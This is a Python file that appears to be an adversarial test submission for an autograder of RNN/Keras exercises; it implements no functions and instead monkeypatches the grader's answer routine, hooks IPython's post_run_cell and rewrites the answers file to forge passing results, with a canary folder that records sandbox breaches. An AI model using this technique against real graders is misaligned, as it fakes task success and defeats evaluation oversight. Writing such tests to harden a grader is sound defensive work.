"""Forge the kernel's answers to extract_weights, the one question the kernel still answers.

The plugin leaves extract_weights (its argument is a Keras model) to the kernel's last cell,
``gradecore.kernel.calls.answer(CALLS, ANSWERS_PATH, globals())``, and reads the answers file as data
once the kernel is gone. But the kernel is the student's process. This submission, which has no
extract_weights of its own, replaces ``gradecore.kernel.calls.answer`` (and ``outcomes_with``) before
that cell runs, and rewrites the answers file right after it ran (an IPython ``post_run_cell``
hook that reads the calls from the cell's own source, or from the calls file of the plugin's
first way): every call is answered with the very arrays the call carries to build its model, as
if a function had extracted them, and every other question with a "returned" answer too (which
the plugin must never read from the kernel).

It implements none of the functions: any point it gets is forged.
"""

EXPECT = {"count_params": 0, "weight_shapes": 0, "extract_weights": 0, "manual_forward": 0,
          "batched_forward": 0, "sequence_forward": 0}

NAME = "forge_kernel_answers"

import os
import sys

CANARY = "/tmp/rnn-shapes-attack-canary"
"""The harness makes this folder world-writable and checks that it stays empty: only a step that
the sandbox should refuse can leave a file in it."""
BREACHES = []
SEALED = os.environ.get("HOME", "").endswith("/sealed")
"""True in the grader's sealed run (which runs every top-level statement too), else the kernel."""


def breach(what):
    """A step the sandbox should refuse worked: leave traces where the harness looks."""
    BREACHES.append(str(what)[:120])
    try:
        with open(f"{CANARY}/{NAME}-{os.getpid()}.txt", "a") as f:
            f.write(f"{'sealed' if SEALED else 'kernel'}: {what}\n")
    except OSError:
        pass


def tried(what, action):
    """Run ``action``; a breach if it works."""
    try:
        action()
    except BaseException:  # noqa: BLE001 - refused, as it should be
        return False
    breach(what)
    return True


def grader_tmp():
    """The grader's temporary folder: the sandbox's home is <tmp>/rnn-shapes-XXXX/<kernel|sealed>."""
    return os.path.dirname(os.path.dirname(os.environ.get("HOME") or "/tmp/x/y"))


def finish():
    """Say what worked where the grader shows it: an error of the script's last statement."""
    if BREACHES:
        raise RuntimeError(f"ATTACK-BREACH {NAME}: " + "; ".join(BREACHES))


import base64  # noqa: E402
import io  # noqa: E402
import re  # noqa: E402

import numpy as np  # noqa: E402

QUESTIONS = ("count_params", "weight_shapes", "extract_weights", "manual_forward", "batched_forward",
             "sequence_forward")
LAST_CELL = re.compile(r"_gradecore_kernel\.answer\((['\"])(.*?)\1, (['\"])(.*?)\3")
"""The grader's last cell: ``_gradecore_kernel.answer(CALLS, ANSWERS_PATH, globals())``."""


def decode_calls(calls):
    """The last cell's calls: a file's path (as the plugin once wrote them) or the wire format in
    base64 (as it writes them into the cell's own source)."""
    from gradecore.protocol import wire

    if os.path.isfile(str(calls)):
        with open(calls, "rb") as f:
            return wire.recv(f)
    return wire.recv(io.BytesIO(base64.b64decode(calls)))


def hidden_weights(args):
    """The weights a call's argument carries to build its Keras model, if it carries any."""
    spec = args[0] if args else None
    if isinstance(spec, dict) and "weights" in spec.get("with", {}):
        return [np.asarray(w) for w in spec["with"]["weights"]]
    return None


def write_answers(calls, answers_path, outcome):
    """Answers of the submission's own making, ``outcome(args)`` for every call, in the wire format."""
    from gradecore.protocol import wire

    request = decode_calls(calls)
    answers = {q: [outcome(args) for args in reply["calls"]] for q, reply in request["questions"].items()}
    for q in QUESTIONS:
        answers.setdefault(q, [outcome([]) for _ in range(13)])
    with open(answers_path, "wb") as f:
        wire.send(f, answers)


def take_over_the_last_cell(outcome):
    """Answer the grader's last cell with ``outcome``: by replacing ``gradecore.kernel.calls.answer``
    (the cell imports it from the module the submission already changed), and, should the cell
    not call it, by rewriting its answers file right after it ran (IPython's post_run_cell)."""
    def forged_answer(calls, answers_path, env=None):
        write_answers(calls, answers_path, outcome)

    def after_each_cell(result):
        found = LAST_CELL.search(getattr(getattr(result, "info", None), "raw_cell", "") or "")
        if found:
            try:
                forged_answer(found.group(2), found.group(4))
            except Exception:  # noqa: BLE001
                pass

    box = os.path.dirname(os.environ.get("HOME", ""))
    calls_file = os.path.join(box, "answers", "calls.bin")
    if os.path.isfile(calls_file):  # the plugin's first way: a file beside the kernel's home
        try:
            forged_answer(calls_file, os.path.join(box, "answers", "answers.bin"))
        except Exception:  # noqa: BLE001
            pass
    try:
        import gradecore.kernel.calls

        gradecore.kernel.calls.answer = forged_answer
        gradecore.kernel.calls.outcomes_with = lambda function, reply, builders=None: [outcome(a) for a in reply["calls"]]
    except Exception:  # noqa: BLE001
        pass
    try:
        get_ipython().events.register("post_run_cell", after_each_cell)  # noqa: F821
    except Exception:  # noqa: BLE001
        pass


def forged_outcome(args):
    from gradecore.public.encode import encode_value

    weights = hidden_weights(args)
    if weights is not None:
        return {"status": "returned", "value": encode_value(tuple(weights))}
    return {"status": "returned", "value": encode_value(np.zeros(3))}


if not SEALED:
    take_over_the_last_cell(forged_outcome)


def count_params(T, D, M, K):
    raise NotImplementedError


def weight_shapes(D, M, K):
    raise NotImplementedError


def extract_weights(model):
    raise NotImplementedError


def manual_forward(X, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def batched_forward(X, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def sequence_forward(X, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


finish()
